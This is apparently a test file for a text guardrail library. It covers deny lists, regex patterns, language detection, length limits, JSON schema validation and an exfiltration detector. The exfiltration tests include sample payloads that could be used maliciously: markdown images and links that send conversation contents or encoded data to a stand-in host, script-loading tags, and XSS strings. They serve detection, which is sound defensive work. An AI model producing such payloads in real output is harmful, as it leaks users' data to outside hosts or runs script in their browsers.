import { describe, expect, it } from 'bun:test'
import {
  expectOpenFrom,
  expectWellFormed,
  scanSync,
  seeded,
} from '../../../../test/guardrails/check-contract.ts'
import type { Check, CheckKind, Finding } from '../check.ts'
import { denyListKind } from './deny-list.ts'
import { exfiltrationKind } from './exfiltration.ts'
import { jsonSchemaKind } from './json-schema.ts'
import { languageKind } from './language.ts'
import { patternKind } from './pattern.ts'
import { lengthKind } from './text-length.ts'

function make<T>(kind: CheckKind<T>, parameters: unknown): Check {
  return kind.create(kind.manifest.parameters.parse(parameters))
}

/** What was found, as `TYPE: text`. */
function say(text: string, found: readonly Finding[]): string[] {
  expectWellFormed(found, text)
  return found.map(({ type, start, end }) => `${type}: ${text.slice(start, end)}`)
}

function complaint<T>(kind: CheckKind<T>, parameters: unknown): string | undefined {
  return kind.manifest.parameters.safeParse(parameters).error?.issues[0]?.message
}

describe('deny-list', () => {
  const check = make(denyListKind, {
    terms: ['Project  Falcon', 'Über', '東京', 'at&t'],
    type: 'SECRET_NAME',
  })

  it.each([
    ['of project\n falcon, and', ['SECRET_NAME: project\n falcon']],
    ['PROJECT FALCONS', []],
    ['prоject fal\u200bcon', ['SECRET_NAME: prоject fal\u200bcon']],
    ['u\u0308ber und ueber', ['SECRET_NAME: u\u0308ber']],
    ['私は東京に住む', ['SECRET_NAME: 東京']],
    ['AT&T and at&tx', ['SECRET_NAME: AT&T']],
  ])('reads %j', (text, found) => expect(say(text, scanSync(check, text))).toEqual(found))

  it('finds terms inside of words where it shall', () => {
    const anywhere = make(denyListKind, { terms: ['falcon'], match: 'anywhere', caseSensitive: true })
    expect(say('myfalcons Falcon', scanSync(anywhere, 'myfalcons Falcon'))).toEqual(['DENIED_TERM: falcon'])
  })

  it('refuses a term that nobody could see', () =>
    expect(complaint(denyListKind, { terms: ['\u200b'] })).toBe('must hold something that can be seen'))

  it('finds as a list of its terms does that is searched one by one', () => {
    const random = seeded(7)
    for (let round = 0; round < 200; round += 1) {
      const word = (length: number) => Array.from({ length }, () => 'ab c'[Math.floor(random() * 4)]).join('')
      const terms = Array.from({ length: 6 }, () => `a${word(Math.floor(random() * 4))}b`)
      const text = word(60).replace(/ +/g, ' ')
      const covered = (found: readonly Finding[]) => {
        const units = Array<boolean>(text.length).fill(false)
        for (const { start, end } of found) units.fill(true, start, end)
        return units.map(Number).join('')
      }
      const naive = terms.flatMap(each => {
        const term = each.replace(/ +/g, ' ')
        const places: Finding[] = []
        for (let at = text.indexOf(term); at >= 0; at = text.indexOf(term, at + 1))
          places.push({ start: at, end: at + term.length, type: '', score: 1 })
        return places
      })
      expect(covered(scanSync(make(denyListKind, { terms, match: 'anywhere' }), text))).toBe(covered(naive))
    }
  })

  it('takes a list of 20,000 terms and stays fast', () => {
    const terms = Array.from({ length: 20_000 }, (_, index) => `term ${index.toString(36)} of the list`)
    const long = make(denyListKind, { terms })
    const text = 'It is term 9zz of the list and nothing else. '.repeat(200)
    expect(scanSync(long, text)).toHaveLength(200)
    const started = performance.now()
    for (let round = 0; round < 20; round += 1) scanSync(long, `${text}${round}`)
    // 180 KB; takes some 15 ms
    expect(performance.now() - started).toBeLessThan(10_000)
  })
})

describe('pattern', () => {
  it.each([
    ['(a+)+$', 'may match 4225 characters'],
    ['a(?=b)', 'lookahead at character 2'],
    ['(a)\\1', 'backreference at character 4'],
    ['(a', 'Unterminated group'],
    ['\\b', 'matches only the empty text'],
  ])('refuses %j when it is configured', (pattern, message) =>
    expect(complaint(patternKind, { patterns: [{ name: 'X', pattern }] })).toContain(message),
  )

  it('finds every match of each pattern, under its name', () => {
    const check = make(patternKind, {
      patterns: [
        { name: 'ORDER', pattern: 'order-\\d{6}' },
        { name: 'CODE', pattern: '\\p{Lu}{2}-(?<n>é|\\d+)', caseSensitive: true },
      ],
    })
    const text = 'ORDER-123456, AB-é, ab-12, ÄÖ-77'
    expect(say(text, scanSync(check, text))).toEqual(['ORDER: ORDER-123456', 'CODE: AB-é', 'CODE: ÄÖ-77'])
  })

  it('takes time in proportion to a text that makes other engines hang', () => {
    const check = make(patternKind, { patterns: [{ name: 'X', pattern: '(?:a|aa|a{1,3}){1,20}!' }] })
    const started = performance.now()
    expect(scanSync(check, 'a'.repeat(20_000))).toEqual([])
    expect(performance.now() - started).toBeLessThan(40_000)
  })

  it('says that it cannot tell where a pattern matches nearly everywhere, rather than search for ever', () => {
    const check = make(patternKind, { patterns: [{ name: 'X', pattern: '\\d{20,256}' }] })
    expect(() => scanSync(check, '1'.repeat(40_000))).toThrow('matches nearly everywhere')
  })
})

describe('language', () => {
  const english = make(languageKind, { allowed: ['en'] })

  it.each([
    ['Good morning, what can I do for you today?', []],
    [
      'Guten Morgen, was kann ich heute für Sie tun?',
      ['LANGUAGE: Guten Morgen, was kann ich heute für Sie tun?'],
    ],
    [
      'Here it is. Je voudrais annuler ma commande, merci. Done.',
      ['LANGUAGE: Je voudrais annuler ma commande, merci.'],
    ],
    ['今日は東京で会議があります。OK', ['LANGUAGE: 今日は東京で会議があります。']],
    ['Здравствуйте, как у вас дела сегодня', ['LANGUAGE: Здравствуйте, как у вас дела сегодня']],
    ['OK, Müller.', []],
  ])('reads %j', (text, found) => expect(say(text, scanSync(english, text))).toEqual(found))

  it('knows what it can tell apart', () =>
    expect(complaint(languageKind, { allowed: ['xx'] })).toBe(
      'is not a language that can be told apart here',
    ))

  it('holds a stream back for the sentence under way only', () => {
    const text =
      'Good morning to all of you. Guten Morgen, was kann ich heute für Sie tun? And so on it goes.'
    expectOpenFrom(
      english,
      text,
      Array.from({ length: text.length }, (_, length) => length),
    )
    expect(english.openFrom?.(text.slice(0, 40))).toBe(28)
  })
})

describe('length', () => {
  it('finds what goes beyond, and releases what does not', () => {
    const check = make(lengthKind, { maxCharacters: 10 })
    expect(scanSync(check, '0123456789')).toEqual([])
    expect(say('0123456789ab', scanSync(check, '0123456789ab'))).toEqual(['TOO_LONG: ab'])
    expectOpenFrom(check, '0123456789ab', [0, 5, 10, 12])
    expect(check.openFrom?.('01234')).toBe(5)
  })

  it('counts tokens, and finds what is too short', () => {
    const check = make(lengthKind, { maxTokens: 3, minCharacters: 2 })
    expect(say('abc日本語', scanSync(check, 'abc日本語'))).toEqual(['TOO_LONG: 語'])
    expect(say('  a ', scanSync(check, '  a '))).toEqual(['TOO_SHORT:   a '])
    expect(check.openFrom?.('a')).toBe(0)
  })

  it('wants a limit', () => expect(complaint(lengthKind, {})).toStartWith('say at least one'))
})

describe('json-schema', () => {
  const schema = {
    type: 'object',
    required: ['name'],
    properties: {
      name: { type: 'string', pattern: '^[a-z]+$' },
      tags: { type: 'array', items: { type: 'integer' } },
    },
    additionalProperties: false,
  }
  const check = make(jsonSchemaKind, { schema })
  const anywhere = make(jsonSchemaKind, { schema, where: 'anywhere' })

  it.each([
    ['{"name": "ann", "tags": [1, 2]}', []],
    ['```json\n{"name": "ann"}\n```\n', []],
    ['{"name": "ann", "tags": [1, "two"]}', ['SCHEMA_MISMATCH: "two"']],
    ['{"name": "Ann"}', ['SCHEMA_MISMATCH: "Ann"']],
    ['{"tags": [] }', ['SCHEMA_MISMATCH: {"tags": [] }']],
    ['{"name": "ann",}', ['NOT_JSON: }']],
    ['Here: {"name": "ann"}', ['NOT_JSON: Here: {"name": "ann"}']],
    [`${'['.repeat(400)}${']'.repeat(400)}`, [`NOT_JSON: ${'['.repeat(199)}${']'.repeat(400)}`]],
  ])('reads %j', (text, found) => expect(say(text, scanSync(check, text))).toEqual(found))

  it.each([
    ['Sure {see below}: {"name": "ann"} fine.', []],
    ['Text\n```json\n{"name": 1}\n```\nmore', ['SCHEMA_MISMATCH: 1']],
    ['No JSON here', ['NOT_JSON: No JSON here']],
  ])('looks for JSON in %j', (text, found) => expect(say(text, scanSync(anywhere, text))).toEqual(found))

  it("says what was not met in the schema's words alone", () => {
    const text = '{"name": "ann", "her secret": 1}'
    expect(scanSync(check, text)[0]?.reason).toBe(
      'must NOT have additional properties (#/additionalProperties)',
    )
  })

  it('refuses schemas that cannot be compiled, or would take long to check', () => {
    expect(complaint(jsonSchemaKind, { schema: { type: 'strin' } })).toContain('schema is invalid')
    expect(complaint(jsonSchemaKind, { schema: { type: 'array', uniqueItems: true } })).toContain('maxItems')
    expect(complaint(jsonSchemaKind, { schema: { type: 'string', pattern: '(?=a)' } })).toContain('invalid')
  })
})

describe('exfiltration', () => {
  const check = make(exfiltrationKind, { allowedDomains: ['ours.example'] })
  const link = '[the docs](https://help.other.example/guide/getting-started-2024?page=2)'

  it.each([
    ['![x](https://evil.example/p.png)', 'IMAGE_EXFILTRATION'],
    ['![a [b] c]( <https://evil.example/?q=hello%20my%20name> "t")', 'IMAGE_EXFILTRATION'],
    ['![x](//evil.example/p.png)', 'IMAGE_EXFILTRATION'],
    ['![x][1]\n\n[1]: https://evil.example/p.png', 'IMAGE_EXFILTRATION'],
    ['[more](https://evil.example/SGVsbG8gV29ybGQxMjM0NTY3ODkwQUJD)', 'LINK_EXFILTRATION'],
    ['see https://evil.example/c?d={{conversation}}', 'LINK_EXFILTRATION'],
    ['https://aGVsbG8gd29ybGQgMTIz4Zm9v.evil.example/', 'LINK_EXFILTRATION'],
    ['<img src=x onerror=alert(1)>', 'ACTIVE_HTML'],
    ['<IMG\nSRC="https://evil.example/a.png">', 'IMAGE_EXFILTRATION'],
    ['<script src=//evil.example/x.js></script>', 'ACTIVE_HTML'],
    ['<iframe srcdoc="x">', 'ACTIVE_HTML'],
    ['[x](javascript:alert(1))', 'ACTIVE_HTML'],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">', 'DATA_URI'],
    ['https://ours.example@evil.example/', 'LINK_EXFILTRATION'],
    ['![x](https://ours.example.evil.example/a)', 'IMAGE_EXFILTRATION'],
  ])('finds %j', (text, type) => expect(scanSync(check, text).map(each => each.type)).toContain(type))

  it.each([
    [link],
    ['![logo](https://cdn.ours.example/logo.png?v=aGVsbG8gd29ybGQgMTIz)'],
    ['![local](images/a.png)'],
    ['If a < b and b > c, then a[0] (see [1]).'],
    ['https://en.wikipedia.example/wiki/Pulse-width_modulation#Duty_cycle'],
    ['git clone https://github.example/acme/rocket-science.git'],
  ])('lets %j through', text => expect(scanSync(check, text)).toEqual([]))

  it('reads the arguments of tools behind their escapes', () => {
    const text = '{"url":"https:\\/\\/evil.example\\/?q=my%20secret%20key"}'
    expect(scanSync(check, text, { stage: 'tool_call' })).toHaveLength(1)
  })

  it('lets a link through that the documents hold word for word', () => {
    const long = 'https://x.example/?session=aGVsbG8gd29ybGQgMTIz'
    expect(scanSync(check, long)).toHaveLength(1)
    expect(scanSync(check, long, { documents: [`See ${long}.`] })).toEqual([])
  })

  it('takes time in proportion to texts made to cost', () => {
    for (const piece of [
      '![',
      '](',
      '<a ',
      '[a](',
      ']',
      '<img src="',
      'http://',
      '[x]: ',
      '](http://a',
    ] as const) {
      const text = piece.repeat(40_000 / piece.length)
      const started = performance.now()
      scanSync(check, text)
      check.openFrom?.(text)
      expect(performance.now() - started).toBeLessThan(25_000)
    }
  })
})
